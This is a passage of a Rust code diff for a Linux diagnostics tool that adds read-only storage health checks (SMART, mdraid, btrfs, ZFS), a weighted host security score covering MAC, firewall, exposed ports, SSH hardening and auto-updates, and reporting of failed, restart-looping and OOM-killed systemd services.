+            "Offline_Uncorrectable" => push(SmartField::UncorrectableSectors, raw),
+            // Normalized value counts down from 100 as the flash wears out
+            "Wear_Leveling_Count" | "SSD_Life_Left" | "Media_Wearout_Indicator" => push(
+                SmartField::WearUsed,
+                normalized.map(|value| 100u64.saturating_sub(value.min(100))),
+            ),
+            "Unexpect_Power_Loss_Ct" | "Unsafe_Shutdown_Count" => {
+                push(SmartField::UnsafeShutdowns, raw)
+            }
+            _ => {}
+        }
+    }
+    attrs
+}
+
+fn smart_attribute_lines(attrs: &[(SmartField, u64)]) -> Vec<InsightLine> {
+    attrs
+        .iter()
+        .map(|(field, value)| InsightLine {
+            level: field.level(*value),
+            message: format!("{:<28} {}", field.label(), field.format_value(*value)),
+        })
+        .collect()
+}
+
+fn why_storage_smart_full() -> Result<()> {
+    let header = t!("storage_smart_full_header").to_string();
+    print_header(&header);
+    let devices = match smart_devices() {
+        Ok(devices) => devices,
+        Err(message) => {
+            print_section(&header, Err(message));
+            return Ok(());
+        }
+    };
+    for device in devices.into_iter().take(8) {
+        // smartctl's exit status is a bitmask that is non-zero for mere warnings,
+        // so judge by whether it printed anything
+        let section = match output_with_timeout(
+            Command::new("smartctl").args(["-A", &device]),
+            command_timeout(),
+        ) {
+            Ok(out) => {
+                let attrs = parse_smart_attributes(&String::from_utf8_lossy(&out.stdout));
+                if attrs.is_empty() {
+                    let err = String::from_utf8_lossy(&out.stderr).trim().to_string();
+                    Err(if err.is_empty() {
+                        t!("storage_smart_full_empty").to_string()
+                    } else {
+                        err
+                    })
+                } else {
+                    Ok(smart_attribute_lines(&attrs))
+                }
+            }
+            Err(_) => Err(t!("storage_smart_missing").to_string()),
+        };
+        print_section(&device, section);
+    }
+    Ok(())
+}
+
+fn gather_mdraid_health() -> SectionResult {
+    let text =
+        fs::read_to_string("/proc/mdstat").map_err(|_| t!("storage_mdstat_missing").to_string())?;
+    let mut lines = Vec::new();
+    for block in text.split("\n\n") {
+        let mut parts = block.lines();
+        let header = match parts.next() {
+            Some(line) if line.starts_with("md") => line,
+            _ => continue,
+        };
+        let name = header.split_whitespace().next().unwrap_or("md?");
+        let normalized = block.to_ascii_lowercase();
+        let missing =
+            normalized.contains("_]") || normalized.contains("[u_") || normalized.contains("[__");
+        let degraded = normalized.contains("degraded") || missing;
+        let recovering = normalized.contains("recovery") || normalized.contains("resync");
+        let level = if degraded {
+            InsightLevel::Critical
+        } else if recovering {
+            InsightLevel::Warning
+        } else {
+            InsightLevel::Good
+        };
+        let detail = if degraded {
+            "degraded"
+        } else if recovering {
+            "resync in progress"
+        } else {
+            "healthy"
+        };
+        lines.push(InsightLine {
+            level,
+            message: format!("{name}: {detail}"),
+        });
+    }
+    if lines.is_empty() {
+        Err(t!("storage_mdstat_clean").to_string())
+    } else {
+        Ok(lines)
+    }
+}
+
+fn gather_btrfs_health() -> SectionResult {
+    if !is_command_available("btrfs") {
+        return Err(t!("storage_btrfs_missing").to_string());
+    }
+    let mounts = btrfs_mount_points();
+    if mounts.is_empty() {
+        return Err(t!("storage_btrfs_not_found").to_string());
+    }
+
+    let mut lines = Vec::new();
+    for mount in mounts.into_iter().take(4) {
+        let output = output_with_timeout(
+            Command::new("btrfs").args(["device", "stats", &mount]),
+            command_timeout(),
+        );
+        match output {
+            Ok(out) if out.status.success() => {
+                let mut errors = Vec::new();
+                for line in String::from_utf8_lossy(&out.stdout).lines() {
+                    let trimmed = line.trim();
+                    if trimmed.is_empty() {
+                        continue;
+                    }
+                    if let Some(value_token) = trimmed.split_whitespace().last() {
+                        if let Ok(value) = value_token.parse::<u64>() {
+                            if value > 0 {
+                                errors.push(trimmed.to_string());
+                            }
+                        }
+                    }
+                }
+                if errors.is_empty() {
+                    lines.push(InsightLine {
+                        level: InsightLevel::Good,
+                        message: format!("{mount}: no device errors reported"),
+                    });
+                } else {
+                    for err in errors {
+                        lines.push(InsightLine {
+                            level: InsightLevel::Warning,
+                            message: format!("{mount}: {err}"),
+                        });
+                    }
+                }
+            }
+            Ok(out) => {
+                let err = String::from_utf8_lossy(&out.stderr);
+                lines.push(InsightLine {
+                    level: InsightLevel::Warning,
+                    message: format!("{mount}: {}", err.trim()),
+                });
+            }
+            Err(_) => lines.push(InsightLine {
+                level: InsightLevel::Warning,
+                message: format!("{mount}: btrfs device stats failed"),
+            }),
+        }
+    }
+    Ok(lines)
+}
+
+fn gather_zfs_health() -> SectionResult {
+    if !is_command_available("zpool") {
+        return Err(t!("storage_zfs_missing").to_string());
+    }
+    let output = output_with_timeout(Command::new("zpool").arg("status"), command_timeout());
+    let out = match output {
+        Ok(out) if out.status.success() => out,
+        Ok(out) => return Err(String::from_utf8_lossy(&out.stderr).trim().to_string()),
+        Err(_) => return Err(t!("storage_zfs_missing").to_string()),
+    };
+    let text = String::from_utf8_lossy(&out.stdout);
+    if text.to_ascii_lowercase().contains("no pools available") {
+        return Err(t!("storage_zfs_clean").to_string());
+    }
+    #[derive(Default)]
+    struct Pool {
+        name: String,
+        state: Option<String>,
+        errors: Option<String>,
+    }
+    let mut pools = Vec::new();
+    let mut current: Option<Pool> = None;
+    for line in text.lines() {
+        let trimmed = line.trim();
+        if let Some(name) = trimmed.strip_prefix("pool:") {
+            if let Some(pool) = current.take() {
+                pools.push(pool);
+            }
+            current = Some(Pool {
+                name: name.trim().to_string(),
+                ..Default::default()
+            });
+        } else if let Some(state) = trimmed.strip_prefix("state:") {
+            if let Some(pool) = current.as_mut() {
+                pool.state = Some(state.trim().to_string());
+            }
+        } else if let Some(errors) = trimmed.strip_prefix("errors:") {
+            if let Some(pool) = current.as_mut() {
+                pool.errors = Some(errors.trim().to_string());
+            }
+        }
+    }
+    if let Some(pool) = current {
+        pools.push(pool);
+    }
+    if pools.is_empty() {
+        return Err(t!("storage_zfs_clean").to_string());
+    }
+
+    let mut lines = Vec::new();
+    for pool in pools {
+        let state = pool.state.unwrap_or_else(|| "unknown".into());
+        let errors = pool.errors.unwrap_or_else(|| "unknown".into());
+        let lower_state = state.to_ascii_lowercase();
+        let mut level = if lower_state.contains("degraded")
+            || lower_state.contains("fault")
+            || lower_state.contains("offline")
+            || lower_state.contains("unavail")
+        {
+            InsightLevel::Critical
+        } else {
+            InsightLevel::Good
+        };
+        if !errors.to_ascii_lowercase().contains("no known data errors")
+            && !errors.eq_ignore_ascii_case("none")
+            && !errors.eq_ignore_ascii_case("unknown")
+            && matches!(level, InsightLevel::Good)
+        {
+            level = InsightLevel::Warning;
+        }
+        lines.push(InsightLine {
+            level,
+            message: format!("{}: state={} | errors={}", pool.name, state, errors),
+        });
+    }
+    Ok(lines)
+}
+
+fn btrfs_mount_points() -> Vec<String> {
+    let mut mounts = Vec::new();
+    if let Ok(data) = fs::read_to_string("/proc/mounts") {
+        for line in data.lines() {
+            let mut parts = line.split_whitespace();
+            let _device = match parts.next() {
+                Some(value) => value,
+                None => continue,
+            };
+            let mount_point = match parts.next() {
+                Some(value) => value,
+                None => continue,
+            };
+            let fs_type = match parts.next() {
+                Some(value) => value,
+                None => continue,
+            };
+            if fs_type == "btrfs" {
+                mounts.push(mount_point.to_string());
+            }
+        }
+    }
+    mounts
+}
+
+fn why_security(lynis_lite: bool) -> Result<()> {
+    print_header(&t!("security_header"));
+
+    let mac_header = t!("security_controls_header").to_string();
+    let controls = vec![selinux_status_line(), apparmor_status_line()];
+    let mac_enforcing = controls
+        .iter()
+        .any(|line| matches!(line.level, InsightLevel::Good));
+    print_section(&mac_header, Ok(controls));
+
+    let firewall_header = t!("security_firewall_header").to_string();
+    let firewall = gather_firewall_lines();
+    let firewall_active = firewall.as_ref().is_ok_and(|lines| {
+        lines
+            .iter()
+            .any(|line| matches!(line.level, InsightLevel::Good))
+    });
+    print_section(&firewall_header, firewall);
+
+    // The score needs every socket, the section only shows the first few
+    let ports_header = t!("security_open_ports_header").to_string();
+    let ports = gather_open_ports(if lynis_lite { usize::MAX } else { 8 });
+    let risky_ports = ports.as_ref().ok().map(|lines| {
+        lines.iter().any(|line| {
+            line.message
+                .split_whitespace()
+                .nth(1)
+                .is_some_and(is_risky_exposed)
+        })
+    });
+    print_section(
+        &ports_header,
+        ports.map(|lines| lines.into_iter().take(8).collect()),
+    );
+
+    if lynis_lite {
+        let mut results = vec![
+            (SecurityCheck::MacEnforcing, mac_enforcing),
+            (SecurityCheck::FirewallActive, firewall_active),
+        ];
+        if let Some(risky) = risky_ports {
+            results.push((SecurityCheck::NoRiskyPorts, !risky));
+        }
+        if let Some(config) = sshd_effective_config() {
+            results.push((SecurityCheck::SshHardened, sshd_hardened(&config)));
+        }
+        if is_command_available("systemctl") {
+            let auto_updates = AUTO_UPDATE_UNITS
+                .iter()
+                .any(|unit| run_cmd_status("systemctl", &["is-active", "--quiet", unit]));
+            results.push((SecurityCheck::AutoUpdates, auto_updates));
+        }
+        let score_header = t!("security_score_header").to_string();
+        print_section(&score_header, Ok(security_score_lines(&results)));
+    }
+
+    Ok(())
+}
+
+const SSHD_CONFIG_PATH: &str = "/etc/ssh/sshd_config";
+/// Relative `Include` paths resolve here, as sshd does
+const SSHD_CONFIG_DIR: &str = "/etc/ssh";
+/// sshd's own limit on nested `Include`s
+const SSHD_INCLUDE_DEPTH: usize = 16;
+/// Services/timers that install updates unattended (Debian, Fedora/RHEL)
+const AUTO_UPDATE_UNITS: &[&str] = &[
+    "unattended-upgrades.service",
+    "dnf-automatic.timer",
+    "dnf-automatic-install.timer",
+    "dnf5-automatic.timer",
+];
+/// Services that should not listen on every interface
+const RISKY_PORTS: &[u16] = &[21, 23, 445, 3306, 5432, 5900, 6379, 9200, 11211, 27017];
+
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+enum SecurityCheck {
+    MacEnforcing,
+    FirewallActive,
+    NoRiskyPorts,
+    SshHardened,
+    AutoUpdates,
+}
+
+impl SecurityCheck {
+    /// Points out of 100 when every check could be evaluated
+    fn weight(self) -> u32 {
+        match self {
+            SecurityCheck::MacEnforcing | SecurityCheck::FirewallActive => 25,
+            SecurityCheck::NoRiskyPorts => 20,
+            SecurityCheck::SshHardened | SecurityCheck::AutoUpdates => 15,
+        }
+    }
+
+    fn failure_label(self) -> String {
+        match self {
+            SecurityCheck::MacEnforcing => t!("security_check_mac"),
+            SecurityCheck::FirewallActive => t!("security_check_firewall"),
+            SecurityCheck::NoRiskyPorts => t!("security_check_ports"),
+            SecurityCheck::SshHardened => t!("security_check_ssh"),
+            SecurityCheck::AutoUpdates => t!("security_check_updates"),
+        }
+        .to_string()
+    }
+}
+
+#[derive(Debug, PartialEq)]
+struct SecurityScore {
+    score: u32,
+    grade: char,
+    /// Failed checks, heaviest first
+    failing: Vec<SecurityCheck>,
+}
+
+/// Weighted 0–100 score over the checks that could be evaluated; checks
+/// missing from `results` (tool or file absent) don't count either way
+fn security_score(results: &[(SecurityCheck, bool)]) -> Option<SecurityScore> {
+    let total: u32 = results.iter().map(|(check, _)| check.weight()).sum();
+    if total == 0 {
+        return None;
+    }
+    let passed: u32 = results
+        .iter()
+        .filter(|(_, pass)| *pass)
+        .map(|(check, _)| check.weight())
+        .sum();
+    let score = (passed * 100 + total / 2) / total;
+    let grade = match score {
+        90.. => 'A',
+        80..=89 => 'B',
+        70..=79 => 'C',
+        60..=69 => 'D',
+        _ => 'F',
+    };
+    let mut failing: Vec<SecurityCheck> = results
+        .iter()
+        .filter(|(_, pass)| !*pass)
+        .map(|(check, _)| *check)
+        .collect();
+    failing.sort_by_key(|check| std::cmp::Reverse(check.weight()));
+    Some(SecurityScore {
+        score,
+        grade,
+        failing,
+    })
+}
+
+fn security_score_lines(results: &[(SecurityCheck, bool)]) -> Vec<InsightLine> {
+    let Some(score) = security_score(results) else {
+        return vec![InsightLine {
+            level: InsightLevel::Info,
+            message: t!("security_score_unknown").to_string(),
+        }];
+    };
+    let level = match score.grade {
+        'A' | 'B' => InsightLevel::Good,
+        'C' | 'D' => InsightLevel::Warning,
+        _ => InsightLevel::Critical,
+    };
+    let mut lines = vec![InsightLine {
+        level,
+        message: t!("security_score_line")
+            .replace("{score}", &score.score.to_string())
+            .replace("{grade}", &score.grade.to_string()),
+    }];
+    lines.extend(score.failing.iter().map(|check| InsightLine {
+        level: InsightLevel::Warning,
+        message: format!("-{:<3} {}", check.weight(), check.failure_label()),
+    }));
+    lines
+}
+
+/// Listening on all interfaces (`0.0.0.0`, `*`, `[::]`) on a `RISKY_PORTS` port
+fn is_risky_exposed(local: &str) -> bool {
+    let Some((host, port)) = local.rsplit_once(':') else {
+        return false;
+    };
+    let wildcard = matches!(host, "0.0.0.0" | "*" | "[::]" | "::" | ":::") || host.ends_with("::");
+    wildcard
+        && port
+            .parse()
+            .is_ok_and(|port: u16| RISKY_PORTS.contains(&port))
+}
+
+/// The configuration sshd actually runs with: `sshd -T` when it can be asked
+/// (it needs root to load host keys), else the config file with its
+/// `Include`s inlined where they appear.
+fn sshd_effective_config() -> Option<String> {
+    if is_command_available("sshd") {
+        let mut sshd = Command::new("sshd");
+        sshd.arg("-T");
+        if let Ok(out) = output_with_timeout(&mut sshd, command_timeout()) {
+            if out.status.success() {
+                return Some(String::from_utf8_lossy(&out.stdout).into_owned());
+            }
+        }
+    }
+    let mut config = String::new();
+    read_sshd_config(Path::new(SSHD_CONFIG_PATH), 0, &mut config).ok()?;
+    Some(config)
+}
+
+/// Appends `path` to `out`, replacing each `Include` line with the files it
+/// names. Unreadable included files are skipped, like sshd skips unmatched
+/// globs; only the top-level file is required.
+fn read_sshd_config(path: &Path, depth: usize, out: &mut String) -> std::io::Result<()> {
+    let config = fs::read_to_string(path)?;
+    for line in config.lines() {
+        let mut words = line.split_whitespace();
+        if words
+            .next()
+            .is_some_and(|key| key.eq_ignore_ascii_case("include"))
+        {
+            if depth < SSHD_INCLUDE_DEPTH {
+                for file in words.flat_map(sshd_include_paths) {
+                    let _ = read_sshd_config(&file, depth + 1, out);
+                }
+            }
+            continue;
+        }
+        out.push_str(line);
+        out.push('\n');
+    }
+    Ok(())
+}
+
+/// Files matched by one `Include` argument, sorted like glob(3). Wildcards
+/// are honoured in the file name, which is where distros put them
+/// (`sshd_config.d/*.conf`).
+fn sshd_include_paths(pattern: &str) -> Vec<PathBuf> {
+    let path = Path::new(SSHD_CONFIG_DIR).join(pattern);
+    let Some(name) = path.file_name().and_then(|name| name.to_str()) else {
+        return Vec::new();
+    };
+    if !name.contains(['*', '?']) {
+        return vec![path];
+    }
+    let glob = regex::escape(name)
+        .replace("\\*", "[^/]*")
+        .replace("\\?", "[^/]");
+    let Ok(glob) = Regex::new(&format!("^{glob}$")) else {
+        return Vec::new();
+    };
+    let Some(Ok(entries)) = path.parent().map(fs::read_dir) else {
+        return Vec::new();
+    };
+    let mut files: Vec<PathBuf> = entries
+        .flatten()
+        .map(|entry| entry.path())
+        .filter(|file| {
+            file.file_name()
+                .and_then(|name| name.to_str())
+                .is_some_and(|name| !name.starts_with('.') && glob.is_match(name))
+        })
+        .collect();
+    files.sort();
+    files
+}
+
+/// Root login limited to keys (or off) and password logins disabled. sshd
+/// keeps the first value of a keyword; `Match` blocks are not evaluated.
+fn sshd_hardened(config: &str) -> bool {
+    let mut permit_root = None;
+    let mut password_auth = None;
+    for line in config.lines() {
+        let mut words = line.split_whitespace();
+        let (Some(key), Some(value)) = (words.next(), words.next()) else {
+            continue;
+        };
+        if key.starts_with('#') {
+            continue;
+        }
+        match key.to_ascii_lowercase().as_str() {
+            "match" => break,
+            "permitrootlogin" => {
+                permit_root.get_or_insert(value.to_ascii_lowercase());
+            }
+            "passwordauthentication" => {
+                password_auth.get_or_insert(value.to_ascii_lowercase());
+            }
+            _ => {}
+        }
+    }
+    // Defaults: prohibit-password, and password authentication on
+    permit_root.as_deref() != Some("yes") && password_auth.as_deref() == Some("no")
+}
+
+fn selinux_status_line() -> InsightLine {
+    if !is_command_available("getenforce") {
+        return InsightLine {
+            level: InsightLevel::Info,
+            message: t!("security_selinux_missing").to_string(),
+        };
+    }
+    let output = output_with_timeout(&mut Command::new("getenforce"), command_timeout());
+    match output {
+        Ok(out) if out.status.success() => {
+            let state = String::from_utf8_lossy(&out.stdout).trim().to_string();
+            let level = match state.to_ascii_lowercase().as_str() {
+                "enforcing" => InsightLevel::Good,
+                "permissive" => InsightLevel::Warning,
+                _ => InsightLevel::Warning,
+            };
+            InsightLine {
+                level,
+                message: format!("SELinux: {state}"),
+            }
+        }
+        Ok(out) => InsightLine {
+            level: InsightLevel::Warning,
+            message: format!("SELinux: {}", String::from_utf8_lossy(&out.stderr).trim()),
+        },
+        Err(_) => InsightLine {
+            level: InsightLevel::Warning,
+            message: "SELinux: unable to query state".into(),
+        },
+    }
+}
+
+fn apparmor_status_line() -> InsightLine {
+    if !is_command_available("aa-status") {
+        return InsightLine {
+            level: InsightLevel::Info,
+            message: t!("security_apparmor_missing").to_string(),
+        };
+    }
+    let output = output_with_timeout(&mut Command::new("aa-status"), command_timeout());
+    match output {
+        Ok(out) if out.status.success() => {
+            let text = String::from_utf8_lossy(&out.stdout);
+            let enforced = text
+                .lines()
+                .find(|line| line.contains("profiles are in enforce mode"))
+                .unwrap_or_default()
+                .split_whitespace()
+                .next()
+                .unwrap_or("0")
+                .to_string();
+            InsightLine {
+                level: InsightLevel::Good,
+                message: format!("AppArmor: {enforced} profiles enforcing"),
+            }
+        }
+        Ok(out) => InsightLine {
+            level: InsightLevel::Warning,
+            message: format!("AppArmor: {}", String::from_utf8_lossy(&out.stderr).trim()),
+        },
+        Err(_) => InsightLine {
+            level: InsightLevel::Warning,
+            message: "AppArmor: unable to query module".into(),
+        },
+    }
+}
+
+fn gather_firewall_lines() -> SectionResult {
+    let mut lines = Vec::new();
+    if let Some(line) = query_systemd_unit("firewalld", "firewalld") {
+        lines.push(line);
+    }
+    if is_command_available("ufw") {
+        let output = output_with_timeout(Command::new("ufw").arg("status"), command_timeout());
+        if let Ok(out) = output {
+            let text = String::from_utf8_lossy(&out.stdout).to_ascii_lowercase();
+            let active = text.contains("status: active");
+            lines.push(InsightLine {
+                level: if active {
+                    InsightLevel::Good
+                } else {
+                    InsightLevel::Warning
+                },
+                message: format!("UFW: {}", if active { "active" } else { "inactive" }),
+            });
+        }
+    }
+    if is_command_available("nft") {
+        if let Ok(out) = output_with_timeout(
+            Command::new("nft").args(["list", "ruleset"]),
+            command_timeout(),
+        ) {
+            if out.status.success() {
+                let text = String::from_utf8_lossy(&out.stdout);
+                let has_rules = text.lines().any(|line| line.contains("table "));
+                lines.push(InsightLine {
+                    level: if has_rules {
+                        InsightLevel::Good
+                    } else {
+                        InsightLevel::Warning
+                    },
+                    message: format!(
+                        "nftables: {}",
+                        if has_rules {
+                            "rules present"
+                        } else {
+                            "no rules"
+                        }
+                    ),
+                });
+            }
+        }
+    }
+    if lines.is_empty() {
+        Err(t!("security_firewall_missing").to_string())
+    } else {
+        Ok(lines)
+    }
+}
+
+fn gather_open_ports(limit: usize) -> SectionResult {
+    if let Some(entries) = open_ports_from_ss(limit) {
+        if entries.is_empty() {
+            return Ok(vec![InsightLine {
+                level: InsightLevel::Good,
+                message: t!("security_open_ports_none").to_string(),
+            }]);
+        }
+        return Ok(entries
+            .into_iter()
+            .map(|entry| InsightLine {
+                level: InsightLevel::Info,
+                message: entry,
+            })
+            .collect());
+    }
+    if let Some(entries) = open_ports_from_netstat(limit) {
+        if entries.is_empty() {
+            return Ok(vec![InsightLine {
+                level: InsightLevel::Good,
+                message: t!("security_open_ports_none").to_string(),
+            }]);
+        }
+        return Ok(entries
+            .into_iter()
+            .map(|entry| InsightLine {
+                level: InsightLevel::Info,
+                message: entry,
+            })
+            .collect());
+    }
+    Err(t!("security_ports_tool_missing").to_string())
+}
+
+fn open_ports_from_ss(limit: usize) -> Option<Vec<String>> {
+    if !is_command_available("ss") {
+        return None;
+    }
+    let output =
+        output_with_timeout(Command::new("ss").args(["-tulpn"]), command_timeout()).ok()?;
+    if !output.status.success() {
+        return None;
+    }
+    let mut entries = Vec::new();
+    for line in String::from_utf8_lossy(&output.stdout).lines().skip(1) {
+        let parts: Vec<&str> = line.split_whitespace().collect();
+        if parts.len() < 6 {
+            continue;
+        }
+        let proto = parts[0];
+        let local = parts[4];
+        let process = parts.get(6).copied().unwrap_or("-");
+        entries.push(format!("{proto:<4} {local:<30} {process}"));
+        if entries.len() >= limit {
+            break;
+        }
+    }
+    Some(entries)
+}
+
+fn open_ports_from_netstat(limit: usize) -> Option<Vec<String>> {
+    if !is_command_available("netstat") {
+        return None;
+    }
+    let output =
+        output_with_timeout(Command::new("netstat").args(["-tulpn"]), command_timeout()).ok()?;
+    if !output.status.success() {
+        return None;
+    }
+    let mut entries = Vec::new();
+    for line in String::from_utf8_lossy(&output.stdout).lines() {
+        if line.starts_with("Proto") || line.trim().is_empty() {
+            continue;
+        }
+        let parts: Vec<&str> = line.split_whitespace().collect();
+        if parts.len() < 7 {
+            continue;
+        }
+        let proto = parts[0];
+        let local = parts[3];
+        let process = parts[6];
+        entries.push(format!("{proto:<4} {local:<30} {process}"));
+        if entries.len() >= limit {
+            break;
+        }
+    }
+    Some(entries)
+}
+
+fn query_systemd_unit(unit: &str, label: &str) -> Option<InsightLine> {
+    if !is_command_available("systemctl") {
+        return None;
+    }
+    let output = output_with_timeout(
+        Command::new("systemctl").args(["is-active", unit]),
+        command_timeout(),
+    )
+    .ok()?;
+    let text = if output.stdout.is_empty() {
+        String::from_utf8_lossy(&output.stderr).trim().to_string()
+    } else {
+        String::from_utf8_lossy(&output.stdout).trim().to_string()
+    };
+    let active = output.status.success() && text == "active";
+    let level = if active {
+        InsightLevel::Good
+    } else if text == "inactive" || text == "failed" {
+        InsightLevel::Warning
+    } else {
+        InsightLevel::Info
+    };
+    Some(InsightLine {
+        level,
+        message: format!("{label}: {text}"),
+    })
+}
+
+/// Restarts above which a service is reported as restart-looping, even if it
+/// is currently active; the `unit_restart_loop` rule uses the same number
+const UNIT_RESTART_LOOP: u32 = 10;
+
+#[derive(Clone, Debug, PartialEq)]
+struct UnitRestarts {
+    unit: String,
+    restarts: u32,
+    active_state: String,
+}
+
+/// Parse `systemctl show -p Id -p NRestarts -p ActiveState` output: one
+/// `Key=value` block per unit, separated by blank lines. Blocks without
+/// NRestarts (systemd < 235) are skipped.
+fn parse_unit_restarts(text: &str) -> Vec<UnitRestarts> {
+    text.split("\n\n")
+        .filter_map(|block| {
+            let mut unit = None;
+            let mut restarts = None;
+            let mut active_state = String::new();
+            for line in block.lines() {
+                match line.split_once('=') {
+                    Some(("Id", value)) => unit = Some(value.trim().to_string()),
+                    Some(("NRestarts", value)) => restarts = value.trim().parse().ok(),
+                    Some(("ActiveState", value)) => active_state = value.trim().to_string(),
+                    _ => {}
+                }
+            }
+            Some(UnitRestarts {
+                unit: unit?,
+                restarts: restarts?,
+                active_state,
+            })
+        })
+        .collect()
+}
+
+/// Restart counters of every loaded service, from a single systemctl call
+fn read_unit_restarts() -> Option<Vec<UnitRestarts>> {
+    if !is_command_available("systemctl") {
+        return None;
+    }
+    let text = run_cmd_c_locale(
+        "systemctl",
+        &[
+            "show",
+            "*.service",
+            "-p",
+            "Id",
+            "-p",
+            "NRestarts",
+            "-p",
+            "ActiveState",
+            "--no-pager",
+        ],
+    )?;
+    Some(parse_unit_restarts(&text))
+}
+
+#[derive(Clone, Debug, PartialEq)]
+struct FailedUnit {
+    unit: String,
+    active_state: String,
+    sub_state: String,
+}
+
+/// Parse `systemctl --failed --no-legend` lines (`UNIT LOAD ACTIVE SUB
+/// DESCRIPTION`), with or without the leading `●` marker
+fn parse_failed_units(text: &str) -> Vec<FailedUnit> {
+    text.lines()
+        .filter_map(|line| {
+            let mut fields = line.split_whitespace().skip_while(|field| *field == "●");
+            let unit = fields.next()?.to_string();
+            let _load = fields.next()?;
+            Some(FailedUnit {
+                unit,
+                active_state: fields.next()?.to_string(),
+                sub_state: fields.next()?.to_string(),
+            })
+        })
+        .collect()
+}
+
+fn read_failed_units() -> Option<Vec<FailedUnit>> {
+    if !is_command_available("systemctl") {
+        return None;
+    }
+    let text = run_cmd_c_locale(
+        "systemctl",
+        &[
+            "list-units",
+            "--failed",
+            "--no-legend",
+            "--plain",
+            "--no-pager",
+        ],
+    )?;
+    Some(parse_failed_units(&text))
+}
+
+fn failed_unit_lines(units: &[FailedUnit]) -> Vec<InsightLine> {
+    if units.is_empty() {
+        return vec![InsightLine {
+            level: InsightLevel::Good,
+            message: t!("services_failed_none").to_string(),
+        }];
+    }
+    units
+        .iter()
+        .map(|unit| InsightLine {
+            level: InsightLevel::Critical,
+            message: t!("services_failed_line")
+                .replace("{unit}", &unit.unit)
+                .replace("{active}", &unit.active_state)
+                .replace("{sub}", &unit.sub_state),
+        })
+        .collect()
+}
+
+/// Services above `UNIT_RESTART_LOOP` restarts, most restarted first
+fn restart_loop_lines(units: &[UnitRestarts]) -> Vec<InsightLine> {
+    let mut looping: Vec<&UnitRestarts> = units
+        .iter()
+        .filter(|unit| unit.restarts > UNIT_RESTART_LOOP)
+        .collect();
+    looping.sort_by_key(|unit| std::cmp::Reverse(unit.restarts));
+    if looping.is_empty() {
+        return vec![InsightLine {
+            level: InsightLevel::Good,
+            message: t!("services_restarts_none").to_string(),
+        }];
+    }
+    looping
+        .into_iter()
+        .map(|unit| InsightLine {
+            level: InsightLevel::Warning,
+            message: t!("services_restarts_line")
+                .replace("{unit}", &unit.unit)
+                .replace("{count}", &unit.restarts.to_string())
+                .replace("{state}", &unit.active_state),
+        })
+        .collect()
+}
+
+fn why_services(findings: &[Finding]) -> Result<()> {
+    filter_show("Services", findings);
+    let failed_header = t!("services_failed_header").to_string();
+    if !is_command_available("systemctl") {
+        print_section(
+            &failed_header,
+            Err(t!("services_systemctl_missing").to_string()),
+        );
+        return Ok(());
+    }
+
+    let failed = read_failed_units()
+        .map(|units| failed_unit_lines(&units))
+        .ok_or_else(|| t!("services_query_failed").to_string());
+    print_section(&failed_header, failed);
+
+    let restarts_header = t!("services_restarts_header").to_string();
+    let restarts = read_unit_restarts()
+        .map(|units| restart_loop_lines(&units))
+        .ok_or_else(|| t!("services_query_failed").to_string());
+    print_section(&restarts_header, restarts);
+
+    let kills = read_unit_kills()
+        .map(|kills| unit_kill_lines(&kills))
+        .ok_or_else(|| t!("rca_logs_missing").to_string());
+    print_section(&t!("services_kills_header"), kills);
+    Ok(())
+}
+
+#[derive(Clone, Copy, Debug, PartialEq)]
+enum UnitKillCause {
+    /// systemd-oomd killed the unit's cgroup under memory pressure
+    Oomd,
+    /// The kernel OOM killer hit a process of the unit
+    OomKiller,
+    /// The unit missed its WatchdogSec= ping
+    Watchdog,
+}
+
+#[derive(Debug, PartialEq)]
+struct UnitKill {
+    /// Journal prefix (timestamp and host)
+    when: String,
+    unit: String,
+    cause: UnitKillCause,
+}
+
+/// Unit kills from systemd-oomd and PID 1 journal lines, most recent first.
+/// oomd names a cgroup path; its last component is the unit (or scope).
+fn parse_unit_kills(logs: &str) -> Vec<UnitKill> {
+    lazy_static! {
+        static ref OOMD_RE: Regex =
+            Regex::new(r"^(.*?)\s*\S*systemd-oomd\[\d+\]: Killed (\S+)").unwrap();
+        static ref SYSTEMD_RE: Regex = Regex::new(
+            r"^(.*?)\s*\S*systemd\[\d+\]: ([^\s:]+): (?:Failed with result 'oom-kill'|Watchdog timeout)"
+        )
+        .unwrap();
+    }
+    logs.lines()
+        .rev()
+        .filter_map(|line| {
+            if let Some(cap) = OOMD_RE.captures(line) {
+                let unit = cap[2].rsplit('/').next().unwrap_or(&cap[2]);
+                return Some(UnitKill {
+                    when: cap[1].to_string(),
+                    unit: unit.to_string(),
+                    cause: UnitKillCause::Oomd,
+                });
+            }
+            let cap = SYSTEMD_RE.captures(line)?;
+            let cause = if line.contains("Watchdog timeout") {
+                UnitKillCause::Watchdog
+            } else {
+                UnitKillCause::OomKiller
+            };
+            Some(UnitKill {
+                when: cap[1].to_string(),
+                unit: cap[2].to_string(),
+                cause,
+            })
+        })
+        .collect()
+}
+
+/// systemd-oomd's own journal plus the shared log buffer (the latter only
+/// holds the last 500 lines, which oomd's isolated kills may have left)
+fn read_unit_kills() -> Option<Vec<UnitKill>> {
+    let oomd = run_cmd_c_locale(
+        "journalctl",
+        &["-u", "systemd-oomd", "-n", "200", "--no-pager"],
+    );
+    let logs = recent_logs();
+    if oomd.is_none() && logs.is_none() {
+        return None;
+    }
+    Some(merge_unit_kills(
+        &logs.unwrap_or_default(),
+        &oomd.unwrap_or_default(),
+    ))
+}
+
+/// Kills from both sources without duplicates, most recent first
+fn merge_unit_kills(logs: &str, oomd: &str) -> Vec<UnitKill> {
+    let mut kills = parse_unit_kills(logs);
+    for kill in parse_unit_kills(oomd) {
+        if !kills.contains(&kill) {
+            kills.push(kill);
+        }
+    }
+    // Stable: lines without a readable time keep their order, after the rest
+    kills.sort_by_key(|kill| std::cmp::Reverse(journal_time(&kill.when)));
+    kills
+}
+
+/// Time of a journal `short` (`Oct 14 09:58:02 host`) or `short-iso` prefix.
+/// `short` has no year; the leap year 2000 stands in so `Feb 29` parses.
+fn journal_time(when: &str) -> Option<chrono::NaiveDateTime> {
+    let first = when.split_whitespace().next()?;
+    if let Ok(time) = DateTime::parse_from_str(first, "%Y-%m-%dT%H:%M:%S%z") {
+        return Some(time.naive_utc());
+    }
+    let stamp: Vec<&str> = when.split_whitespace().take(3).collect();
+    chrono::NaiveDateTime::parse_from_str(&format!("2000 {}", stamp.join(" ")), "%Y %b %d %H:%M:%S")
+        .ok()
+}
+
+/// One line per unit and cause, most killed first
+fn unit_kill_lines(kills: &[UnitKill]) -> Vec<InsightLine> {
+    if kills.is_empty() {
+        return vec![InsightLine {
+            level: InsightLevel::Good,
+            message: t!("services_kills_none").to_string(),
+        }];
+    }
